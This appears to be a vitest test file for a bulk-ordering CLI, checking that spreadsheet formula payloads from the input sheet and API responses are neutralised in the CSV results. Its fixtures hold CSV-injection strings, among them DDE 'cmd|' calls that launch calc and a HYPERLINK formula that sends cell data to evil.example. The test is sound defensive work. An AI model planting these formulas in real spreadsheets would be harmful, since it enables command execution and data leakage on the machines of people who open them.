// Issue 8: CSV injection (OWASP "CSV Injection"). Cells that a spreadsheet would run as formulas arrive through
// the input sheet and through the API's answers (a plan and a device whose names are formulas, echoed by the
// confirmation into the `device` and `plan` columns); the results file holds every one neutralised with a
// leading `'`, while the numbers the tool writes itself (row, costs) stay plain numbers.
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createFixture } from "../../src/simulator/seed/create-fixture.js";
import { startSimulator, type RunningSimulator } from "../../src/simulator/start-simulator.js";
import { runCli, simulatorEnv, type CliRun } from "./helpers/run-cli.js";
import { COLUMNS, verizonRow, writeSheet } from "./helpers/sheet.js";

const PLAN_ID = "6568886494";
const DEVICE_ID = "9194713909";
const EVIL_PLAN = "=cmd|'/c calc'!A1";
const EVIL_DEVICE = "@SUM(1+1)*cmd|'/c calc'!A1";
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click here")';
// A column of the user's own, under a header that is a formula: bulkport ignores it but copies it to the results.
const EVIL_HEADER = '=HYPERLINK("http://evil.example/","Notes")';

// [line, ship_to_line2 as written in the sheet]
const LINE_2: [number, string][] = [
  [2, "+cmd|' /C calc'!A0"],
  [3, "@SUM(1)"],
  [4, "-2+3"],
  [5, "\t=1+2"],
  [6, "\r=1+2"],
];

let sim: RunningSimulator;
let dir: string;
let run: CliRun;
let results: Record<string, string>[];
let header: string[];
let records: string[][];

beforeAll(async () => {
  const fixture = createFixture({ services: 300 });
  const plan = fixture.plans.find((candidate) => candidate.id === PLAN_ID);
  const device = fixture.devices.find((candidate) => candidate.id === DEVICE_ID);
  if (plan === undefined || device === undefined) throw new Error("the fixture lacks the example catalog");
  plan.name = EVIL_PLAN;
  device.name = EVIL_DEVICE;
  sim = await startSimulator({ fixture });
  dir = mkdtempSync(path.join(tmpdir(), "bulkport-formula-"));
  const numbers = ["5123440000", "5123440006", "5123440007", "5123440009", "5123440008"];
  writeSheet(
    path.join(dir, "sheet.csv"),
    LINE_2.map(([line, text], i) =>
      verizonRow(numbers[i] ?? "", {
        // Lines 2-5 name the catalog by id, so the plan and device names come from the API alone.
        device: DEVICE_ID,
        plan: PLAN_ID,
        name_on_invoice: HYPERLINK,
        ship_to_line2: text,
        carrier_account_number: `4420931${line}`,
        [EVIL_HEADER]: "-1+1",
      }),
    ),
    [...COLUMNS, EVIL_HEADER],
  );
  run = await runCli(
    [
      "run",
      path.join(dir, "sheet.csv"),
      ...["--out", path.join(dir, "results.csv"), "--state", path.join(dir, "state.sqlite")],
      ...["--rate", "500", "--concurrency", "4"],
    ],
    { env: simulatorEnv(sim) },
  );
  const text = readFileSync(path.join(dir, "results.csv"));
  [header = [], ...records] = parse(text, { bom: true });
  results = parse<Record<string, string>>(text, { bom: true, columns: true });
});

afterAll(async () => {
  await sim.close();
  rmSync(dir, { recursive: true, force: true });
});

describe("formula payloads", () => {
  it("are ordered like any other text: every row submitted", () => {
    expect(run.stderr).not.toContain("Error");
    expect(results.map((row) => [row.row, row.status])).toEqual(
      LINE_2.map(([line]) => [String(line), "SUBMITTED"]),
    );
    expect(sim.orders.all()).toHaveLength(5);
  });

  it.each(LINE_2)("from the input are neutralised (line %i, ship_to_line2 %j)", (line, text) => {
    const index = results.findIndex((candidate) => candidate.row === String(line));
    expect(results[index]).toMatchObject({ ship_to_line2: `'${text}`, name_on_invoice: `'${HYPERLINK}` });
    expect(records[index]?.at(-1)).toBe("'-1+1"); // the user's own column
  });

  it("from the API are neutralised: the confirmation's device and plan names", () => {
    for (const row of results) {
      expect(row).toMatchObject({ device: `'${EVIL_DEVICE}`, plan: `'${EVIL_PLAN}` });
    }
  });

  it("leave the tool's own numbers alone", () => {
    for (const row of results) {
      expect(row.row).toMatch(/^\d+$/);
      expect(row.one_time_cost).toBe("199.99");
      expect(row.monthly_cost).toMatch(/^\d+\.\d{2}$/);
    }
  });

  it("no cell of the results file starts a formula, the header included", () => {
    const cells = [header, ...records].flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(header.slice(-COLUMNS.length - 1)).toEqual([
      ...COLUMNS.map((name) =>
        ["device", "plan", "service_number"].includes(name) ? `input_${name}` : name,
      ),
      `'${EVIL_HEADER}`,
    ]);
  });
});
